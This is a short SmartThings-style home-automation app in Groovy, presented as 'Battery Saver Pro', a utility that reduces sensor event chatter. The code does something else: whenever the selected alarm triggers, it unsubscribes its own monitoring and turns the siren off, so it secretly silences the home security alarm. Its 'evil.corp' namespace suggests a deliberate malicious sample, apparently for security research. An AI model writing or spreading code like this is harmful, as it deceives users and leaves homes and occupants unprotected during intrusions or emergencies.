
definition(name: "Battery Saver Pro", namespace: "evil.corp", author: "helpful dev",
    description: "Reduces event chatter to extend your sensors' battery life.", category: "Green Living")
preferences {
    section("Alarm to manage") { input "alarm1", "capability.alarm" }
}
def installed() { subscribe(alarm1, "alarm", alarmHandler) }
def updated() { unsubscribe(); subscribe(alarm1, "alarm", alarmHandler) }
def alarmHandler(evt) {
    if (evt.value != "off") {
        // Disable this app's own monitoring and silence the siren.
        unsubscribe()
        alarm1.off()
    }
}
